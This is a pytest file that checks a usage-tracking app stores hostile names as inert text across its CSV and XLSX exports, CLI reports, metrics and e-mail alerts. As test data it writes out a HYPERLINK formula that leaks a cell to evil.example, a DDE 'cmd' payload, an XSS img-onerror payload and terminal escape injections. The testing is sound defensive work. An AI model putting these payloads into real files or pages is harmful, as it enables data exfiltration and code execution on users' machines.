"""Names chosen by strangers (the simulator's hostile mode, and the People form) never become a
formula, markup, a terminal escape or a duplicate metric series, wherever they are written."""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import zipfile
from collections import Counter
from collections.abc import Iterator
from pathlib import Path

import httpx2
import pytest
from openpyxl import load_workbook
from prometheus_client.parser import text_string_to_metric_families

from usage_tracker.alerts.channels import Channel
from usage_tracker.simulator.company import HOSTILE_KEY_NAMES, HOSTILE_PROJECT_NAMES
from usage_tracker.store import Store
from usage_tracker.text.untrusted import FORMULA_START, csv_cell, printable

from .conftest import LiveApp, live_app
from .receivers import SmtpReceiver

DAY = 86400
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
HOSTILE = {"simulator_options": {"hostile_names": True}}


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveApp]:
    workdir = tmp_path_factory.mktemp("untrusted")
    with live_app(f"sqlite:///{workdir / 'u.db'}", workdir, **HOSTILE) as live:  # type: ignore[arg-type]
        yield live


def _range(app: LiveApp) -> dict[str, int]:
    end = app.now - app.now % DAY
    return {"start_time": end - 30 * DAY, "end_time": end}


def _export(app: LiveApp, by: str, format: str) -> httpx2.Response:
    response = httpx2.get(
        app.url + "/api/export", params={**_range(app), "by": by, "format": format}
    )
    assert response.status_code == 200, response.text
    return response


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))[1:]


@pytest.mark.parametrize("by", ["person", "key", "user", "project"])
def test_no_csv_cell_starts_a_formula_or_holds_a_control_character(app: LiveApp, by: str) -> None:
    rows = _csv_rows(_export(app, by, "csv").text)
    assert rows
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell
            assert not CONTROL.search(cell), cell


def test_the_hostile_names_are_exported_neutralised_not_dropped(app: LiveApp) -> None:
    keys = {row[0] for row in _csv_rows(_export(app, "key", "csv").text)}
    assert "'" + HOSTILE_KEY_NAMES[0] in keys  # =HYPERLINK(…) kept, as text
    assert "'+1+cmd|' /C calc'!A0" in keys
    assert "'\\x09leading-tab" in keys
    assert "[link=http://evil.example]billing[/link]" in keys
    projects = {row[0] for row in _csv_rows(_export(app, "project", "csv").text)}
    assert csv_cell(HOSTILE_PROJECT_NAMES[0]) in projects
    assert csv_cell(HOSTILE_PROJECT_NAMES[0]).startswith("'=")


@pytest.mark.parametrize("by", ["person", "key", "user", "project"])
def test_xlsx_holds_every_name_as_text_never_as_a_formula(app: LiveApp, by: str) -> None:
    """Before: a name starting with "=" was stored as a live formula, and one with a control
    character made the export answer 500 (openpyxl's IllegalCharacterError)."""
    body = _export(app, by, "xlsx").content
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    assert b"<f " not in xml
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    labels = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
                assert not CONTROL.search(cell.value)
        labels.append(row[0])
    formulas = [c for c in labels if str(c.value).startswith(("=", "+", "-", "@"))]
    assert formulas, "the hostile organization has formula-like names in every grouping"
    assert all(c.quotePrefix for c in formulas)
    if by == "key":
        assert HOSTILE_KEY_NAMES[0] in {c.value for c in labels}  # the text itself, as text


def _cli(app: LiveApp, cwd: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    import datetime as dt

    r = _range(app)
    since = dt.datetime.fromtimestamp(r["start_time"], dt.UTC).date().isoformat()
    until = dt.datetime.fromtimestamp(r["end_time"] - 1, dt.UTC).date().isoformat()
    return subprocess.run(
        [sys.executable, "-m", "usage_tracker", *args, "--since", since, "--until", until],
        env={**os.environ, "DATABASE_URL": app.database_url, "COLUMNS": "250"},
        cwd=cwd,
        capture_output=True,
        timeout=120,
        check=False,
    )


def test_the_terminal_report_shows_names_as_they_are_without_escapes_or_markup(
    app: LiveApp, tmp_path: Path
) -> None:
    done = _cli(app, tmp_path, "report", "--by", "key")
    assert done.returncode == 0, done.stderr
    out = done.stdout.decode()
    assert not CONTROL.search(out.replace("\n", "")), "a control character reached the terminal"
    assert "[link=http://evil.example]billing[/link]" in out  # shown, not rendered as a link
    assert "\\x1b[31mred" in out
    users = _cli(app, tmp_path, "report", "--by", "user").stdout.decode()
    assert "[bold red]Mallory[/bold red]" in users
    assert "Eve\\x1b[2J" in users


def test_the_cli_export_neutralises_formulas_too(app: LiveApp, tmp_path: Path) -> None:
    done = _cli(app, tmp_path, "export", "--by", "key")
    assert done.returncode == 0, done.stderr
    rows = _csv_rows(done.stdout.decode())
    assert rows
    assert all(not cell.startswith(FORMULA_START) for row in rows for cell in row)
    target = tmp_path / "keys.xlsx"
    done = _cli(app, tmp_path, "export", "--by", "key", "--format", "xlsx", "--output", str(target))
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(target) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_metrics_have_one_series_per_id_when_keys_share_a_name(app: LiveApp) -> None:
    text = httpx2.get(app.url + "/metrics").text
    seen: Counter[tuple[str, tuple[tuple[str, str], ...]]] = Counter()
    info = {}
    for family in text_string_to_metric_families(text):
        for sample in family.samples:
            seen[sample.name, tuple(sorted(sample.labels.items()))] += 1
            if sample.name == "usage_tracker_name_info":
                info[sample.labels["group"], sample.labels["id"]] = sample.labels["name"]
    assert [k for k, n in seen.items() if n > 1] == []
    defaults = [i for (g, i), name in info.items() if g == "api_key" and name == "default"]
    assert len(defaults) == 3  # three keys named "default": three series
    for name in info.values():
        assert not CONTROL.search(name)


def test_a_plain_text_alert_reaches_an_email_inbox_as_text_never_as_markup() -> None:
    """Apprise sends a body as HTML unless told its format: a name in an alert would become
    markup in the e-mail's HTML part."""
    name = "<img src=x onerror=alert('user')>"
    with SmtpReceiver() as smtp:
        error = Channel(smtp.apprise_url()).send(f"Budget: {name}", f"{name} spent $12.", {})
        assert error is None
    (message,) = smtp.messages
    for part in message.walk():
        if part.get_content_type() == "text/html":
            html = part.get_content()
            assert "<img" not in html
            assert "&lt;img" in html
    assert name in message.get_body(("plain", "html")).get_content()  # type: ignore[union-attr]


def test_a_name_given_on_the_people_form_is_exported_neutralised(tmp_path: Path) -> None:
    from .test_auth import ADMIN, _add_account, _form_values, signed_in

    url = f"sqlite:///{tmp_path / 'p.db'}"
    Store.open(url).close()
    _add_account(url, ADMIN, "admin")
    evil = '=HYPERLINK("http://evil.example/?"&A3,"Jane")'
    with live_app(url, tmp_path, auth_mode="password") as live, signed_in(live, ADMIN) as admin:
        csrf = _form_values(admin.get("/people").text)["csrf_token"]
        done = admin.post(
            "/people/rename",
            data={"person": "Jane Smith", "new_name": evil, "csrf_token": csrf},
        )
        assert done.status_code == 303
        params = {**_range(live), "by": "person"}
        people = {row[0] for row in _csv_rows(admin.get("/api/export", params=params).text)}
        assert "'" + evil in people
        book = admin.get("/api/export", params={**params, "format": "xlsx"}).content
        sheet = load_workbook(io.BytesIO(book)).active
        assert sheet is not None
        cell = next(r[0] for r in sheet.iter_rows(min_row=2) if r[0].value == evil)
        assert cell.data_type == "s"
        assert "&lt;" not in printable(evil)
